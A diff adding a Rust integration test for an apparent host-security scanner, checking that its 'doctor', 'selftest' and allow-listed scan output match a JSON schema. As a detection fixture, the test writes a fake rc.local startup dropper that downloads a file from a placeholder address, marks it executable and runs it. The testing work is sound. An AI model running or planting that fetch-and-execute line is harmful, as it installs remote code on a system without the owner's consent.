@@ -67,6 +67,31 @@ fn a_live_scan_is_as_the_schema_says() {
     assert!(types.contains("check") && types.contains("summary"), "{types:?}");
 }
 
+/// A machine's state, a test of the way that reports take, and what is allowed.
+#[test]
+fn what_doctor_and_selftest_say_is_as_the_schema_says() {
+    let schema = Schema::open();
+    let tree = tempfile::tempdir().unwrap();
+    fs::create_dir(tree.path().join("etc")).unwrap();
+    fs::write(tree.path().join("etc/rc.local"), "cd /tmp; wget http://203.0.113.1/x; chmod +x x; ./x\n")
+        .unwrap();
+    let root = tree.path().to_str().unwrap();
+    let allow = "startup-dropper /etc/rc.local never a \"reason\"";
+    for (arguments, expected) in [
+        (vec!["doctor", "--only", "exe-volatile"], &["diagnosis"][..]),
+        (vec!["selftest"], &["diagnosis", "finding", "summary"]),
+        (
+            vec!["-v", "--only", "startup-dropper", "--allow", allow, "--root", root],
+            &["allowed", "check", "summary"],
+        ),
+    ] {
+        let mut program = Command::new(env!("CARGO_BIN_EXE_gatewatch"));
+        let output = program.args(&arguments).args(["--format", "json", "--no-config"]).output().unwrap();
+        let types = schema.check(arguments[0], &String::from_utf8(output.stdout).unwrap());
+        assert_eq!(types, expected.iter().map(|word| (*word).to_owned()).collect(), "{arguments:?}");
+    }
+}
+
 /// A run that ended early, one in which more was found than is joined, and fields that may be absent.
 #[test]
 fn rare_lines_are_allowed() {
